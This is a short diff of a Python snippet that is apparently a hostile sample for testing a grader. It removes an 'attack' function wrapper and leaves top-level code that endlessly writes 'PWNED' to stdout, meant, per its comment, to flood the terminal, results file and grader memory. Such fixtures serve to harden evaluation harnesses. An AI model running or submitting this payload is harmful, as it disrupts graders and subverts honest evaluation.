@@ -1,5 +1,4 @@
 # tries: to flood the terminal, the results file and the grader's memory
-def attack(keys, j):
-    line = b"PWNED " * 10_000
-    while True:
-        os.write(1, line)
+line = b"PWNED " * 10_000
+while True:
+    os.write(1, line)
